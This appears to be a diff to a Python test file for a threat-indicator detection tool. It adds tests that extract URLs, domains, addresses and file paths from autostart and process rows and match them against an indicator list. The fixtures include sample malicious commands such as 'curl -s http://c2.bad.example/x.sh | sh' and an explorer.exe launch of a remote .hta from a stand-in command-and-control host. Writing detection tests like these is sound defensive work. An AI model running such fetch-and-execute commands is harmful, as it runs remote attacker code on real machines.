@@ -11,9 +11,13 @@ from controller.collectors import answer as answers
 from controller.collectors import catalog
 from controller.collectors.answer import MAX_ROW_BYTES, MAX_ROWS, MAX_TEXT, observations, read
 from controller.errors import HostError, Reason
+from controller.indicators.matcher import Matcher
+from controller.indicators.normalise import normalise
+from controller.indicators.text import values_in
 from controller.loading import spec
 from controller.model.collector import Answer, CollectorSpec, Column, ColumnType, Row, StoppedBy
 from controller.model.indicator import Kind, Observation
+from tests.visits import a_list
 
 NONCE = "4f1d0c"
 BEGIN = b"#begin tasks 2 4f1d0c -\n"  # as older stores keep answers; tests/unit/test_answer_trailer.py has version 3
@@ -243,7 +247,7 @@ def test_nothing_that_a_host_sends_is_more_than_refused(stdout: bytes) -> None:
 
 
 def seen(*rows: dict[str, object]) -> tuple[Observation, ...]:
-    return observations(SPEC, reading(an_answer(*(a_line(**row) for row in rows))))
+    return observations(SPEC, reading(an_answer(*(a_line(**row) for row in rows))), values_in)
 
 
 def test_one_row_meets_a_path_a_name_a_hash_and_domains() -> None:
@@ -291,9 +295,50 @@ def test_a_connection_shows_where_it_went_or_who_came(
     words = dict.fromkeys((column.name for column in connections.columns), "") | {"own": False, "pid": 4}
     row = words | {"direction": direction, "remote_address": address, "local_port": 1, "remote_port": 443}
 
-    found = observations(connections, Answer(collector="connections", rows=(row,)))
+    found = observations(connections, Answer(collector="connections", rows=(row,)), values_in)
 
     assert [(each.kind, each.value) for each in found] == expected
+
+
+K1_AND_K2 = [
+    ("autostart", {"command": 'explorer.exe "http://c2.bad.example/a.hta"'}, Kind.URL, "http://c2.bad.example/a.hta"),
+    ("autostart", {"command": "nslookup c2.bad.example"}, Kind.DOMAIN, "c2.bad.example"),
+    ("autostart", {"command": "curl -s http://c2.bad.example/x.sh | sh"}, Kind.DOMAIN, "c2.bad.example"),
+    ("processes", {"command_line": "explorer.exe http://c2.bad.example/a.hta"}, Kind.DOMAIN, "c2.bad.example"),
+    ("dns_cache", {"source": "cache", "data": "203.0.113.66"}, Kind.ADDRESS, "203.0.113.66"),
+    ("dns_cache", {"source": "cache", "data": "2001:db8::66"}, Kind.ADDRESS, "2001:db8::66"),
+    ("dns_cache", {"source": "hosts", "data": "203.0.113.66"}, Kind.ADDRESS, "203.0.113.66"),
+    ("autostart", {"command": "%APPDATA%\\KT\\nhac.exe"}, Kind.PATH, "%APPDATA%\\KT\\nhac.exe"),
+    (
+        "autostart",
+        {"command": '"%APPDATA%\\KT\\nhac.exe" -d'},
+        Kind.PATH,
+        "C:\\Users\\an\\AppData\\Roaming\\KT\\nhac.exe",
+    ),
+    ("autostart", {"command": 'cmd.exe /c start "" "%APPDATA%\\KT\\nhac.exe"'}, Kind.PATH, "%APPDATA%\\KT\\nhac.exe"),
+    ("autostart", {"command": "evil.exe"}, Kind.NAME, "evil.exe"),
+    ("autostart", {"command": "cd /opt/kt && ./evil-run -d"}, Kind.PATH, "/opt/kt/evil-run"),
+    ("autostart", {"command": "$HOME/.cache/evil2"}, Kind.PATH, "/home/an/.cache/evil2"),
+    ("autostart", {"command": "$HOME/.cache/evil2"}, Kind.PATH, "/root/.cache/evil2"),
+    ("processes", {"name": "bad-name-x.exe"}, Kind.NAME, "bad-name-x.exe"),
+    ("connections", {"name": "bad-name-x.exe"}, Kind.NAME, "bad-name-x.exe"),
+]
+
+
+@pytest.mark.parametrize(("collector", "columns", "kind", "listed"), K1_AND_K2)
+def test_what_a_row_names_only_in_a_text_meets_a_list(
+    collector: str, columns: dict[str, str], kind: Kind, listed: str
+) -> None:
+    spec_of = spec.read(catalog.spec_text(collector), "spec.yaml")
+    empty: dict[ColumnType, int | str] = {ColumnType.INTEGER: 0, ColumnType.BOOLEAN: False}
+    row: Row = {**{column.name: empty.get(column.type, "") for column in spec_of.columns}, **columns}
+    answer = Answer(collector=collector, rows=({**row, **dict.fromkeys(columns, "x")}, row))
+
+    found = observations(spec_of, answer, values_in)
+    matches = list(Matcher([a_list((kind, normalise(kind, listed)))]).match(found))
+
+    assert [match.value for match in matches] == [normalise(kind, listed)]
+    assert {each.row for each in found if each.value == matches[0].seen} == {2}
 
 
 def test_a_root_that_is_missing_was_not_seen() -> None:
@@ -307,4 +352,6 @@ def test_a_root_that_is_missing_was_not_seen() -> None:
     )
     rows: tuple[Row, ...] = ({"path": "/a", "type": "missing"}, {"path": "/b", "type": "folder"})
 
-    assert [each.value for each in answers.observations(spec, Answer(collector="files", rows=rows))] == ["/b"]
+    assert [each.value for each in answers.observations(spec, Answer(collector="files", rows=rows), values_in)] == [
+        "/b"
+    ]
